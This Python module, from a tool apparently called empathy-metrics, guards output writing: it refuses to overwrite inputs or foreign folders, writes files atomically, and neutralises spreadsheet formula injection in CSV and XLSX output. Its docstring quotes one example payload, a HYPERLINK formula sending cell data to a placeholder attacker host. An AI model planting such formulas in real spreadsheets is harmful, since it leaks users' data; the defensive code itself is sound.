"""The output rule and the formula rule: how every file empathy-metrics writes is made safe.

Every command that writes (``score -o``, ``trend --plot``, ``report``, ``demo``) and the Python
functions behind them (:meth:`Report.write <empathy_metrics.report.Report.write>`,
:func:`~empathy_metrics.simulate.write_demo`) go through this module.

Output rule
-----------
:func:`check_outputs` runs **before any work** and refuses (with :class:`InputError`, exit
code 2 in the CLI):

* an output that resolves -- after symbolic links and ``..`` -- to one of the inputs (data,
  column map, instrument, item text, labels), or a folder the tool would write into that
  holds an input;
* an unsupported suffix, a missing or unwritable folder, a folder given where a file is meant;
* an existing workbook (``.xlsx``) that the tool did not write (it carries no marker), and an
  existing, non-empty folder that the tool did not create (it holds no manifest).

Folders the tool creates hold a manifest (:data:`MANIFEST_NAME`) listing the files it wrote;
:func:`commit_folder` replaces only those files on the next run and keeps anything else a
user put there. Workbooks carry :data:`WORKBOOK_MARK` in their document keywords. Every file
is written to a temporary name beside its target and renamed into place when complete
(:func:`empathy_metrics._files.atomic_path`).

Formula rule
------------
Spreadsheet programs evaluate a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in
some, a tab or carriage return) as a formula, so a student id such as
``=HYPERLINK("http://evil.example/?d="&A1,"x")`` would become a live link in an office's copy
(OWASP, "CSV Injection"). :func:`neutralise` prefixes such **text** with an apostrophe,
:func:`neutralise_frame` does so for every text cell and column name of a table, and
:func:`write_csv` / :func:`write_xlsx` apply it; in XLSX every text cell is written as a
string cell. Numbers stay numbers (a negative mean is a number, not text). JSON and Parquet
keep values exact: the rule applies only to the spreadsheet formats.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import tempfile
import zipfile
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import numpy as np
import pandas as pd

from .errors import InputError

__all__ = [
    "FORMULA_PREFIXES",
    "MANIFEST_NAME",
    "WORKBOOK_MARK",
    "neutralise",
    "neutralise_frame",
    "write_csv",
    "write_xlsx",
    "check_outputs",
    "is_tool_folder",
    "is_tool_workbook",
    "commit_folder",
    "claim_folder",
    "staged_folder",
]

#: Text beginning with one of these is read as a formula by spreadsheet programs.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
#: The manifest a tool-created folder holds: the files the tool wrote there.
MANIFEST_NAME = ".empathy-metrics-manifest.json"
#: Keyword stored in the document properties of every workbook the tool writes.
WORKBOOK_MARK = "written-by-empathy-metrics"
_TOOL = "empathy-metrics"


# ---------------------------------------------------------------------------- formula rule
def neutralise(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula.

    >>> neutralise("=1+1"), neutralise("-3 points"), neutralise(-3.5), neutralise("women")
    ("'=1+1", "'-3 points", -3.5, 'women')
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def _neutralise_series(s: pd.Series) -> pd.Series:
    if isinstance(s.dtype, pd.CategoricalDtype) or s.dtype == object \
            or pd.api.types.is_string_dtype(s.dtype):
        return s.astype(object).map(neutralise, na_action="ignore")
    return s


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, column names and text index are neutralised.

    Numeric, boolean and date columns are returned unchanged (by position, so duplicated
    column names are handled).
    """
    out = frame.copy()
    for j in range(out.shape[1]):
        out.isetitem(j, _neutralise_series(out.iloc[:, j]))
    out.columns = [neutralise(c) for c in out.columns]
    if not isinstance(out.index, pd.RangeIndex):
        out.index = pd.Index([neutralise(v) for v in out.index], name=neutralise(out.index.name))
    return out


def write_csv(frame: pd.DataFrame, path: str | os.PathLike[str], **options: Any) -> None:
    """``frame.to_csv(path, **options)`` after :func:`neutralise_frame` (index not written
    unless ``index=True`` is passed)."""
    options.setdefault("index", False)
    neutralise_frame(frame).to_csv(path, **options)


def _cell(value: Any) -> Any:
    """A value openpyxl stores as it is: Python scalars, ``None`` for missing."""
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, (float, np.floating)) and value != value:
        return None
    if isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, (bool, int, float, str)):
        return value
    if isinstance(value, pd.Timestamp):
        return value.to_pydatetime()
    return str(value)


def write_xlsx(sheets: Mapping[str, pd.DataFrame], path: str | os.PathLike[str]) -> None:
    """Write one sheet per frame: header in bold, text always as string cells, neutralised.

    The workbook carries :data:`WORKBOOK_MARK` in its keywords, so that a later run may
    replace it (:func:`is_tool_workbook`). Sheet names must already be valid Excel names.
    """
    from openpyxl import Workbook
    from openpyxl.styles import Font

    wb = Workbook()
    wb.remove(wb.active)
    wb.properties.creator = _TOOL
    wb.properties.keywords = WORKBOOK_MARK
    bold = Font(bold=True)
    for name, frame in sheets.items():
        ws = wb.create_sheet(name)
        header = [neutralise(str(c)) for c in frame.columns]
        widths = [len(h) for h in header]
        for j, text in enumerate(header, start=1):
            cell = ws.cell(row=1, column=j, value=text)
            cell.data_type = "s"
            cell.font = bold
        for i, row in enumerate(frame.itertuples(index=False, name=None), start=2):
            for j, raw in enumerate(row, start=1):
                value = neutralise(_cell(raw))
                cell = ws.cell(row=i, column=j, value=value)
                if isinstance(value, str):
                    cell.data_type = "s"  # never a formula, whatever the text
                if i <= 201:
                    widths[j - 1] = max(widths[j - 1], len(str(value or "")))
        ws.freeze_panes = "A2"
        for j, width in enumerate(widths, start=1):
            ws.column_dimensions[ws.cell(row=1, column=j).column_letter].width = min(width + 2,
                                                                                     60)
    wb.save(path)


# ---------------------------------------------------------------------------- markers
def is_tool_workbook(path: str | os.PathLike[str]) -> bool:
    """True when ``path`` is a workbook written by empathy-metrics (it carries the mark)."""
    try:
        with zipfile.ZipFile(path) as zf:
            core = zf.read("docProps/core.xml")
        root = ElementTree.fromstring(core)
    except (OSError, KeyError, zipfile.BadZipFile, ElementTree.ParseError):
        return False
    return any((el.tag.endswith("}keywords") or el.tag == "keywords")
               and WORKBOOK_MARK in (el.text or "") for el in root.iter())


def _manifest_files(folder: Path) -> list[str] | None:
    """The file names a tool folder's manifest lists, or ``None`` when it has no manifest."""
    try:
        obj = json.loads((folder / MANIFEST_NAME).read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return None
    if not isinstance(obj, dict) or obj.get("written_by") != _TOOL:
        return None
    files = obj.get("files")
    if not isinstance(files, list):
        return None
    # plain names inside the folder only: a manifest never reaches outside its folder
    return [f for f in files if isinstance(f, str) and f and Path(f).name == f
            and f not in (".", "..", MANIFEST_NAME)]


def is_tool_folder(path: str | os.PathLike[str]) -> bool:
    """True when ``path`` is a folder created by empathy-metrics (it holds the manifest)."""
    folder = Path(path)
    return folder.is_dir() and _manifest_files(folder) is not None


def _write_manifest(folder: Path, names: Iterable[str]) -> None:
    from . import __version__

    text = json.dumps({"written_by": _TOOL, "version": __version__,
                       "note": "Files written by empathy-metrics; a later run replaces these "
                               "files and keeps any other file in this folder.",
                       "files": sorted(names)}, indent=1)
    tmp = folder / f"{MANIFEST_NAME}.tmp"
    tmp.write_text(text + "\n", encoding="utf-8")
    os.replace(tmp, folder / MANIFEST_NAME)


def commit_folder(staged: str | os.PathLike[str], folder: str | os.PathLike[str],
                  *, keep: Sequence[str] = ()) -> Path:
    """Move the files of the ``staged`` temporary folder into ``folder``; remove ``staged``.

    A new ``folder`` is the staged one renamed (with a manifest of its files). An existing
    one must be a tool folder: the files its manifest lists and the new run does not write
    are removed, the new files replace the old ones one by one (each rename is atomic), the
    manifest is rewritten, and every file not in the manifest is left as it was. ``keep``
    names files of the old manifest to keep listing though not staged (e.g. written later).
    """
    staged, folder = Path(staged), Path(folder)
    names = sorted(p.name for p in staged.iterdir() if p.name != MANIFEST_NAME)
    if not folder.exists():
        _write_manifest(staged, [*names, *keep])
        os.chmod(staged, 0o755)
        os.replace(staged, folder)
        return folder
    old = _manifest_files(folder)
    if old is None:
        raise _foreign_folder(folder)
    for name in set(old) - set(names) - set(keep):
        p = folder / name
        if p.is_file() or p.is_symlink():
            with contextlib.suppress(OSError):
                p.unlink()
    for name in names:
        target = folder / name
        if target.is_dir() and not target.is_symlink():
            raise InputError("a folder is in the way of an output file", file=str(target),
                             hint="move that folder elsewhere")
        if target.is_symlink():
            target.unlink()  # replace the link itself, never the file it points to
        os.replace(staged / name, target)
    _write_manifest(folder, [*names, *keep])
    shutil.rmtree(staged, ignore_errors=True)
    return folder


def claim_folder(folder: str | os.PathLike[str], names: Iterable[str]) -> Path:
    """Create ``folder`` (with its parents) if needed and list ``names`` in its manifest.

    For a folder the tool writes into file by file (the demo folder): an existing folder must
    be empty or a tool folder; its manifest keeps the names it already lists.
    """
    folder = Path(folder)
    if folder.exists():
        old = _manifest_files(folder)
        if old is None and any(folder.iterdir()):
            raise _foreign_folder(folder)
    else:
        old = None
        try:
            folder.mkdir(parents=True)
        except OSError as exc:
            raise InputError(f"cannot create the output folder ({exc.strerror})",
                             file=str(folder), hint="choose a folder you can write to") from None
    _write_manifest(folder, sorted(set(old or ()) | set(names)))
    return folder


def _foreign_folder(folder: Path) -> InputError:
    return InputError(
        "this folder exists and was not created by empathy-metrics (it holds no "
        f"{MANIFEST_NAME}); nothing in it is replaced", file=str(folder),
        hint="move or rename that folder, or choose another output name")


# ---------------------------------------------------------------------------- output rule
def _real(path: str | os.PathLike[str]) -> Path:
    return Path(os.path.realpath(os.path.abspath(os.fspath(path))))


def _existing_inputs(inputs: Iterable[str | os.PathLike[str] | None]) -> list[tuple[str, Path]]:
    out = []
    for item in inputs:
        if item is None or isinstance(item, Mapping):
            continue
        with contextlib.suppress(TypeError, ValueError, OSError):
            if os.path.lexists(item):
                out.append((os.fspath(item), _real(item)))
    return out


def _same(a: Path, b: Path) -> bool:
    if a == b:
        return True
    try:
        return a.exists() and b.exists() and os.path.samefile(a, b)
    except OSError:
        return False


def _check_not_input(target: Path, is_folder: bool, inputs: list[tuple[str, Path]]) -> None:
    real = _real(target)
    for given, inp in inputs:
        if _same(real, inp):
            raise InputError(f"the output would overwrite the input {given}", file=str(target),
                             hint="choose another output name; inputs are never modified")
        if is_folder and real in inp.parents:
            raise InputError(f"the output folder holds the input {given}", file=str(target),
                             hint="choose another output name, or move the input elsewhere")


def _check_parent(target: Path) -> None:
    parent = target.parent if str(target.parent) else Path(".")
    if not parent.exists():
        raise InputError("the output folder does not exist", file=str(target),
                         hint=f"create {parent} first or choose another path")
    if not parent.is_dir():
        raise InputError(f"{parent} is a file, not a folder", file=str(target),
                         hint="choose another output path")
    if not os.access(parent, os.W_OK | os.X_OK):
        raise InputError("the output folder is not writable", file=str(target),
                         hint="choose a folder you can write to")


def _check_file(target: Path, suffixes: Sequence[str] | None) -> None:
    if suffixes is not None and target.suffix.lower() not in suffixes:
        raise InputError(f"unsupported output format '{target.suffix or '(no suffix)'}'",
                         file=str(target), hint="end the file name in " + ", ".join(suffixes))
    if target.is_dir():
        raise InputError("the output path is a folder", file=str(target),
                         hint="give a file name, e.g. scores.csv")
    _check_parent(target)
    if target.exists() and not target.is_symlink() and not os.access(target, os.W_OK):
        raise InputError("the output file is not writable", file=str(target),
                         hint="choose a file you can write to")
    if target.suffix.lower() in (".xlsx", ".xlsm") and target.exists() \
            and not is_tool_workbook(target):
        raise InputError("this workbook exists and was not written by empathy-metrics; it is "
                         "not replaced", file=str(target),
                         hint="move or rename it, or choose another output name")


def _check_folder(folder: Path) -> None:
    if folder.exists() or folder.is_symlink():
        if not folder.is_dir():
            raise InputError("is a file, not a folder (it is in the way of the output "
                             "folder)", file=str(folder),
                             hint="move it, or choose another output name")
        if any(folder.iterdir()) and _manifest_files(folder) is None:
            raise _foreign_folder(folder)
        if not os.access(folder, os.W_OK | os.X_OK):
            raise InputError("the output folder is not writable", file=str(folder),
                             hint="choose a folder you can write to")
        return
    ancestor = folder.parent  # missing parents are created
    while not ancestor.exists() and ancestor != ancestor.parent:
        ancestor = ancestor.parent
    _check_parent(ancestor / folder.name)


def check_outputs(
    *,
    files: Iterable[str | os.PathLike[str]] = (),
    folders: Iterable[str | os.PathLike[str]] = (),
    inputs: Iterable[Any] = (),
    suffixes: Sequence[str] | None = None,
) -> None:
    """Refuse, before any work, outputs that would break the output rule (module notes).

    Parameters
    ----------
    files
        Files about to be written (each replaced atomically).
    folders
        Folders about to be created or refreshed by :func:`commit_folder`.
    inputs
        Every input of the run (paths; ``None`` and names of bundled instruments that are not
        files are ignored).
    suffixes
        Lower-case suffixes allowed for ``files`` (``None``: any).

    Raises
    ------
    InputError
        Naming the offending output and what to do.
    """
    files = [Path(f) for f in files]
    folders = [Path(d) for d in folders]
    known = _existing_inputs(inputs)
    for f in files:
        _check_not_input(f, False, known)
    for d in folders:
        _check_not_input(d, True, known)
    for f in files:
        _check_file(f, suffixes)
    for d in folders:
        _check_folder(d)


@contextlib.contextmanager
def staged_folder(folder: str | os.PathLike[str]):
    """A temporary folder beside ``folder`` (removed on failure), to pass to
    :func:`commit_folder`."""
    folder = Path(folder)
    parent = folder.parent if str(folder.parent) else Path(".")
    tmp = Path(tempfile.mkdtemp(prefix=f".{folder.name}.", suffix=".tmp", dir=parent))
    try:
        yield tmp
    finally:
        if tmp.exists():
            shutil.rmtree(tmp, ignore_errors=True)
